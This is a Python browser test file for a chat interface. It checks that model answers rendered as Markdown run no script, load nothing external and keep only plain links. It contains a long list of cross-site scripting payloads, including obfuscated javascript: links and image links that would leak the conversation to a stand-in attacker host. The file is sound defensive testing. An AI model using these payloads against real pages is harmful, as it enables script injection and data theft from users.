"""Model text that tries to be more than text: no script runs, nothing is loaded, only ordinary addresses are links."""

from __future__ import annotations

import random

import pytest

from streamkit.testing import ProviderServer, chat_answer
from tests.browser.chat import Chat
from tests.browser.rendering import rendered

pytestmark = pytest.mark.browser

RUNS = "window.pwned=1"

ATTACKS = [
    f"<script>{RUNS}</script>",
    f"<ScRiPt >{RUNS}</sCrIpT >",
    f"<img src=x onerror={RUNS}>",
    f'<img src="https://evil.example/i.png" onload="{RUNS}">',
    f"<svg onload={RUNS}><script>{RUNS}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<iframe src=javascript:{RUNS}>",
    f"<a href=javascript:{RUNS} onclick={RUNS}>x</a>",
    f"<div onmouseover={RUNS} style='position:fixed;inset:0'>x</div>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    f"<object data=javascript:{RUNS}></object><embed src=javascript:{RUNS}>",
    f"<form action=javascript:{RUNS}><button>x</button></form><input autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}></video><audio src=x onerror={RUNS}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<template><script>{RUNS}</script></template><details open ontoggle={RUNS}>",
    f"</code></pre></div><script>{RUNS}</script>",
    f"```\n</code></pre><script>{RUNS}</script>\n```",
    f'```"><script>{RUNS}</script>\nx\n```',
    f"`<img src=x onerror={RUNS}>`",
    f"| <script>{RUNS}</script> | b |\n|---|---|\n| <img src=x onerror={RUNS}> | <br onclick={RUNS}> |",
    f"# <script>{RUNS}</script>",
    f"> <script>{RUNS}</script>\n\n- <img src=x onerror={RUNS}>",
    f"[x](javascript:{RUNS})",
    f"[x](JaVaScRiPt:{RUNS})",
    f"[x](&#106;avascript:{RUNS})",
    f"[x](&#x6A;&#x61;vascript&colon;{RUNS})",
    f"[x](java\\script:{RUNS})",
    f"[x](java\tscript:{RUNS})",
    f"[x](<java\nscript:{RUNS}>)",
    f"[x](\x01javascript:{RUNS})",
    f"[x]( javascript:{RUNS})",
    f"[x](<javascript:{RUNS}>)",
    f"[x](vbscript:{RUNS})",
    f"[x](data:text/html,<script>{RUNS}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd) [x](blob:https://evil.example/1) [x](filesystem:https://evil.example/1)",
    "[x](//evil.example) [x](/answers) [x](\\\\evil.example)",
    "[x](https://bank.example@evil.example/) <https://user:secret@evil.example>",
    f"![x](javascript:{RUNS})",
    f"![x](data:image/svg+xml,<svg onload={RUNS}>)",
    "![x](https://evil.example/leak?what=the+conversation)",
    "[![x](https://evil.example/leak)](https://evil.example)",
    f"[a[b](javascript:{RUNS})](https://evil.example)",
    f"[[[x]]](javascript:{RUNS})",
    f'[x](https://evil.example "t" onmouseover="{RUNS}")',
    f'[x](https://evil.example/"onmouseover="{RUNS})',
    f"<javascript:{RUNS}>",
    f"<data:text/html,<script>{RUNS}</script>>",
    f'https://evil.example/"onmouseover={RUNS}//',
    f"https://evil.example/<script>{RUNS}</script>",
    f"www.evil.example/'onclick='{RUNS}",
    f'<https://evil.example/"onclick="{RUNS}>',
    f"[x]: javascript:{RUNS}\n\n[x]",
    f"- [x] <input onfocus={RUNS} autofocus>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\<script\\>window.pwned=1\\</script\\>",
    "<!-- --><![CDATA[<script>window.pwned=1</script>]]><?php ?>",
    "\u202e<script>window.pwned=1</script>",
]

ALLOWED = {
    *("P", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "BR", "EM", "STRONG", "DEL", "CODE", "PRE"),
    *("A", "FIGURE", "FIGCAPTION", "SPAN", "BUTTON", "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"),
}
ATTRIBUTES = {"aria-label", "class", "dir", "href", "rel", "role", "scope", "start", "tabindex", "target", "type"}

_LOOK = """
const [pages, done] = arguments;
const found = { tags: [], attributes: [], schemes: [], rels: [] };
for (const html of pages) {
  // Parsed without being shown: the nodes had no other content when they were written as HTML.
  for (const node of new DOMParser().parseFromString(html, "text/html").body.querySelectorAll("*")) {
    found.tags.push(node.tagName);
    found.attributes.push(...node.getAttributeNames());
    if (node.tagName === "A") found.schemes.push(new URL(node.href).protocol);
    if (node.tagName === "A") found.rels.push(`${node.target} ${node.rel}`);
  }
}
for (const kind in found) found[kind] = [...new Set(found[kind])];
done(found);
"""


def check(chat: Chat, pages: list[str]) -> None:
    """Assert that there is nothing in these pages but what Markdown is made of."""
    found = chat.driver.execute_async_script(_LOOK, pages)

    assert set() == set(found["tags"]) - ALLOWED
    assert set() == set(found["attributes"]) - ATTRIBUTES
    assert set() == set(found["schemes"]) - {"http:", "https:", "mailto:"}
    assert {"_blank noopener noreferrer nofollow"} >= set(found["rels"])


def test_attacks_are_text(chat: Chat) -> None:
    """Each attack, whole, leaves nothing but the nodes of Markdown, and runs nothing."""
    check(chat, rendered(chat, [[attack] for attack in ATTACKS]))

    assert chat.run("return window.pwned") is None


def test_attacks_that_are_cut_are_text(chat: Chat) -> None:
    """The same of each attack that is cut in two, at every point, shown after either part; and letter by letter."""
    cut = [[attack[:at], attack[at:]] for attack in ATTACKS for at in range(1, len(attack))]
    whole = dict(zip(ATTACKS, rendered(chat, [[attack] for attack in ATTACKS]), strict=True))
    check(chat, rendered(chat, [[attack] for attack in ATTACKS for at in range(1, len(attack))], open=True))
    check(chat, rendered(chat, [[first] for first, _ in cut], open=True))
    shown = rendered(chat, cut)

    assert [whole["".join(pieces)] for pieces in cut] == shown
    assert list(whole.values()) == rendered(chat, [[*attack] for attack in ATTACKS])
    assert chat.run("return window.pwned") is None


def test_no_link_leads_to_a_script(chat: Chat) -> None:
    """What would run, or read from here, is no link at all."""
    links = [attack for attack in ATTACKS if attack.startswith(("[x](", "<javascript", "<data"))]
    links = [attack for attack in links if "https://evil" not in attack]
    html = "".join(rendered(chat, [[attack] for attack in links]))

    assert len(links) > 10
    assert "<a " not in html


def test_an_answer_full_of_attacks(chat: Chat, server: ProviderServer) -> None:
    """Streamed through the real page in small pieces: it is all there as text, and the browser reports nothing."""
    chance = random.Random(1)
    text = "\n\n".join(ATTACKS)
    pieces = []
    while text:
        size = chance.randint(1, 9)
        pieces.append(text[:size])
        text = text[size:]
    chat.run(
        "window.seen = []; addEventListener('securitypolicyviolation', (e) => window.seen.push(e.violatedDirective));"
    )
    server.reply(chat_answer(*pieces, thinking=f"<script>{RUNS}</script><img src=x onerror={RUNS}>"))
    chat.ask(f"<img src=x onerror={RUNS}>")
    chat.wait_state("done")
    chat.driver.execute_async_script("requestAnimationFrame(() => setTimeout(arguments[0]))")

    for selector in ("script", "img", "iframe", "svg", "style", "object", "embed", "form", "input", "link", "meta"):
        assert 0 == chat.count(f"#conversation {selector}"), selector
    check(chat, [chat.run("return document.querySelector('.prose').innerHTML")])
    assert f"<script>{RUNS}</script>" in chat.text()
    assert f"<img src=x onerror={RUNS}>" == chat.text(".question")
    assert chat.run("return window.pwned") is None
    assert [] == chat.run("return window.seen")
    loaded = chat.run("return performance.getEntriesByType('resource').map((entry) => new URL(entry.name).origin)")
    assert {chat.url.rstrip("/")} == set(loaded)

    chat.reload()
    assert chat.run("return window.pwned") is None
    check(chat, [chat.run("return document.querySelector('.prose').innerHTML")])


def test_the_policy_holds(chat: Chat) -> None:
    """Were there a hole in the page, the browser would still run, load and send nothing."""
    refused = chat.driver.execute_async_script("""
        const done = arguments[0];
        const seen = new Set();
        addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
          seen.add(effectiveDirective);
          if (seen.size === 5) done([...seen].sort());
        });
        const here = document.body.appendChild(document.createElement("div"));
        here.innerHTML = "<img src=https://evil.example/i.png onerror='window.pwned=1'><style>p{}</style>"
          + "<iframe src=https://evil.example></iframe>";
        fetch("https://evil.example/").catch(() => {});
    """)

    assert ["connect-src", "frame-src", "img-src", "script-src-attr", "style-src-elem"] == refused
    assert chat.run("return window.pwned") is None
    assert chat.complaints()
